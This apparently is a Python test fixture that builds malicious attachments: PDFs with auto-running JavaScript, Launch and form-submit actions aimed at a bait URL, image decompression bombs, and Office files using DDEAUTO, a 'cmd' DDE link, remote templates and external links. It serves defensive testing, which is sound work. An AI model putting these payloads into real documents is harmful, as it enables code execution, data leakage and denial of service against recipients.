"""Attachments that mean harm: made so that whoever obeys them touches the bait."""

import io
import zlib
from collections.abc import Mapping
from zipfile import ZipFile

import openpyxl

from tests.documents.office import (
    chart,
    deck,
    drawing,
    frame,
    notes,
    packed,
    paragraph,
    points,
    relations,
    series,
    shape,
    slides,
    word,
)
from tests.ui.judge.bait import Bait
from tests.ui.judge.conftest import picture
from tests.ui.scans import stream, written


def markup(bait: Bait) -> str:
    return (
        f'<img src="{bait.path}"><img src="{bait.file}"/> <img src="{bait.url}"> <b>x</b>'
        f'<a href="{bait.url}">x</a><script src="{bait.url}"></script><link rel="stylesheet" href="{bait.file}">'
        f'![x]({bait.file}) [x]({bait.url}) <style>@import url("{bait.file}")</style>'
        f'<table background="{bait.path}"><tr><td style="background-image:url({bait.file})">1</td></tr></table>'
    )


def hostile_pdf(bait: Bait) -> bytes:
    """It wants to run a script and a program, to open other files and addresses, and shows a picture from a file."""
    acts = {
        "script": f"<< /S /JavaScript /JS (app.launchURL\\('{bait.url}'\\); this.submitForm\\('{bait.url}'\\);) >>",
        "launch": f"<< /S /Launch /F ({bait.path}) /Win << /F ({bait.path}) >> >>",
        "remote": f"<< /S /GoToR /F ({bait.path}) /D [0 /Fit] >>",
        "uri": f"<< /S /URI /URI ({bait.url}) >>",
        "submit": f"<< /S /SubmitForm /F << /FS /URL /F ({bait.url}) >> >>",
        "import": f"<< /S /ImportData /F ({bait.path}) >>",
    }
    chain = "<< /S /JavaScript /JS (1) /Next [" + " ".join(acts.values()) + "] >>"
    links = " ".join(
        f"<< /Type /Annot /Subtype /Link /Rect [0 0 600 800] /A {act} >>" for act in acts.values()
    )
    look = "/Type /XObject /Subtype /Image /Width 1 /Height 1 /BitsPerComponent 8 /ColorSpace /DeviceGray"
    outside = f"{look} /F ({bait.path})"
    objects = {
        1: f"<< /Type /Catalog /Pages 2 0 R /OpenAction {chain} /AA << /WC {acts['script']} >> >>".encode(),
        2: b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>",
        3: stream("", b"BT /F1 20 Tf 50 700 Td (Click anywhere) Tj ET /I Do"),
        4: (
            f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] /Contents 3 0 R /Annots [{links}] "
            f"/AA << /O {acts['launch']} /C {acts['uri']} >> /Resources << /XObject << /I 5 0 R >> "
            "/Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> >>"
        ).encode(),
        5: stream(outside, b""),
    }
    return written(objects)


def pdf_with_files(bait: Bait) -> bytes:
    """Files inside it, one of them shown as a pin on the page, others named outside; a form and a film of them."""
    inside = "<< /Type /Filespec /F (run.js) /EF << /F 5 0 R >> >>"
    outside = f"<< /Type /Filespec /FS /URL /F ({bait.url}) >>"
    acts = (
        f"<< /S /GoToE /F ({bait.path}) /T << /R /C /N (run.js) >> /D [0 /Fit] >>",
        f"<< /S /Rendition /R << /S /MR /C << /S /MCD /D << /F ({bait.path}) >> >> >> /OP 0 >>",
        f"<< /S /Movie /T (film) /Operation /Play /F ({bait.path}) >>",
        f"<< /S /Sound /Sound 5 0 R /F ({bait.path}) >>",
        f"<< /S /Thread /F ({bait.path}) /D 0 >>",
    )
    pins = " ".join(
        f"<< /Type /Annot /Subtype /FileAttachment /Rect [40 {y} 90 {y + 40}] /FS {file} >>"
        for y, file in ((600, inside), (500, outside))
    )
    films = "".join(f"<< /Type /Annot /Subtype /Screen /Rect [0 0 600 400] /A {act} >>" for act in acts)
    objects = {
        1: (
            f"<< /Type /Catalog /Pages 2 0 R /OpenAction {acts[0]} /Names << /EmbeddedFiles << /Names "
            f"[(run.js) {inside} (far) {outside}] >> /JavaScript << /Names [(go) << /S /JavaScript /JS "
            f"(app.launchURL\\('{bait.url}'\\)) >>] >> >> /AcroForm << /XFA 5 0 R /Fields [] >> >>"
        ).encode(),
        2: b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>",
        3: stream("", b"BT /F1 20 Tf 50 700 Td (Files inside) Tj ET"),
        4: (
            f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] /Contents 3 0 R /Annots [{pins} {films}] "
            "/Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> >>"
        ).encode(),
        5: stream("/Type /EmbeddedFile", f"app.launchURL('{bait.url}')".encode()),
    }
    return written(objects)


def bomb() -> bytes:
    """A picture that says it is 60,000 pixels wide and high."""
    head = b"IHDR" + (60_000).to_bytes(4, "big") * 2 + picture()[24:29]
    return picture()[:12] + head + zlib.crc32(head).to_bytes(4, "big") + picture()[33:]


def jpeg_bomb() -> bytes:
    """A photograph that says it is 65,500 pixels wide and high."""
    size = (65_500).to_bytes(2, "big") * 2
    segments = (
        b"\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00",
        b"\xff\xc0\x00\x11\x08" + size + b"\x03\x01\x22\x00\x02\x11\x01\x03\x11\x01",
        b"\xff\xda\x00\x0c\x03\x01\x00\x02\x11\x03\x11\x00\x3f\x00",
    )
    return b"\xff\xd8" + b"".join(segments) + b"\xff\xd9"


def linked_word(bait: Bait) -> bytes:
    """All by which Word brings in what lies elsewhere: a template, a chunk, a field, a picture of the old kind."""
    vml = 'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"'
    field = f'INCLUDEPICTURE "{bait.file}" \\d'.replace('"', "&quot;")
    body = (
        '<w:altChunk r:id="c"/><w:subDoc r:id="c"/>'
        '<w:p><w:hyperlink r:id="u"><w:r><w:t>Link</w:t></w:r></w:hyperlink></w:p>'
        f'<w:p><w:fldSimple w:instr="{field}"><w:r><w:t>Field</w:t></w:r></w:fldSimple></w:p>'
        f'<w:p><w:r><w:instrText>DDEAUTO c:\\x "{bait.path}"</w:instrText></w:r></w:p>'
        f'<w:p><w:r><w:pict><v:shape {vml}><v:imagedata r:id="p" r:href="u" o:href="{bait.url}" '
        f'src="{bait.file}"/></v:shape></w:pict></w:r></w:p>'
        f'<w:p><w:r><w:object {vml}><o:OLEObject Type="Link" r:id="u"/></w:object></w:r></w:p>'
        + drawing("n", "A share")
        + drawing("p", "A file", "link")
    )
    outside = [
        ("c", "aFChunk", bait.file),
        ("u", "hyperlink", bait.url),
        ("p", "image", bait.file),
        ("n", "image", "/" + bait.path),
        ("t", "attachedTemplate", bait.url),
    ]
    return word(body, *outside)


def linked_slides(bait: Bait) -> bytes:
    """Pictures, films, sounds, objects, notes and the numbers of a chart, all of them elsewhere."""
    body = (
        '<p:pic><p:cNvPr id="1" descr="x"><a:hlinkClick r:id="u"/></p:cNvPr><a:blip r:embed="i" r:link="u"/></p:pic>'
        '<p:pic><a:videoFile r:link="u"/><a:audioFile r:link="i"/><a:blip r:embed="n"/></p:pic>'
        '<p:graphicFrame><p:oleObj r:id="i" progId="Package"><p:link updateAutomatic="1"/></p:oleObj></p:graphicFrame>'
        + frame("c")
        + frame("i")
        + shape("title", "Elsewhere")
    )
    of = (
        ("u", "image", bait.url),
        ("i", "image", bait.file),
        ("n", "image", "/" + bait.path),
        ("c", "chart", "../charts/chart1.xml"),
        ("s", "notesSlide", "../notesSlides/notesSlide1.xml"),
    )
    parts = {
        "charts/chart1.xml": chart(
            series("A", points("May"), points("7")) + '<c:externalData r:id="x"/>'
        ).replace(
            "<c:chartSpace",
            '<c:chartSpace xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"',
        ),
        "charts/_rels/chart1.xml.rels": relations(("x", "oleObject", bait.file)),
        "notesSlides/notesSlide1.xml": notes(markup(bait).replace("<", "&lt;").replace('"', "&quot;")),
        "notesSlides/_rels/notesSlide1.xml.rels": relations(("p", "image", bait.url)),
    }
    return deck(body, of, parts)


def linked_workbook(bait: Bait) -> bytes:
    """Another workbook behind it, a query, a DDE link and a picture, all of them elsewhere."""
    space = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    dde = f'<ddeLink ddeService="cmd" ddeTopic="{bait.path}"/>'
    query = f'<connection id="1"><webPr url="{bait.url}"/></connection>'
    parts: dict[str, str | bytes] = {}
    with ZipFile(io.BytesIO(workbook(bait))) as archive:
        parts |= {name: archive.read(name) for name in archive.namelist()}
    parts |= {
        "xl/externalLinks/externalLink1.xml": f'<externalLink xmlns="{space}">{dde}</externalLink>',
        "xl/externalLinks/_rels/externalLink1.xml.rels": relations(("r", "externalLinkPath", bait.file)),
        "xl/connections.xml": f'<connections xmlns="{space}">{query}</connections>',
        "xl/drawings/_rels/drawing1.xml.rels": relations(("r", "image", bait.url)),
    }
    return packed(parts)


def workbook(bait: Bait) -> bytes:
    book = openpyxl.Workbook()
    book.active.append([f'=HYPERLINK("{bait.url}")', f'=WEBSERVICE("{bait.url}")', markup(bait)])
    book.active["A1"].hyperlink = bait.file
    raw = io.BytesIO()
    book.save(raw)
    return raw.getvalue()


def attachments(bait: Bait) -> Mapping[str, bytes]:
    outside = [("p", "image", bait.file), ("q", "image", bait.url), ("t", "attachedTemplate", bait.url)]
    body = paragraph("Hello") + drawing("p", markup(bait).replace("<", "&lt;").replace('"', "&quot;"))
    svg = b'<svg xmlns="http://www.w3.org/2000/svg"><image href="' + bait.path.encode() + b'"/></svg>'
    return {
        "evil.pdf": hostile_pdf(bait),
        "bomb.png": bomb(),
        "bomb.jpg": jpeg_bomb(),
        "files.pdf": pdf_with_files(bait),
        "page.txt": markup(bait).encode(),
        "page.md": f"# x\n![x]({bait.file})\n{markup(bait)}".encode(),
        "linked.docx": word(body + drawing("q", "", "link") + paragraph("End"), *outside),
        "inside.docx": word(drawing("s"), ("s", "image", "media.png"), media_png=svg),
        "bomb.docx": word(drawing("s"), ("s", "image", "media.png"), media_png=bomb()),
        "show.pptx": slides(shape("title", "Hello"), pictures={"p.png": svg}),
        "cells.xlsx": workbook(bait),
        "elsewhere.docx": linked_word(bait),
        "elsewhere.pptx": linked_slides(bait),
        "elsewhere.xlsx": linked_workbook(bait),
    }
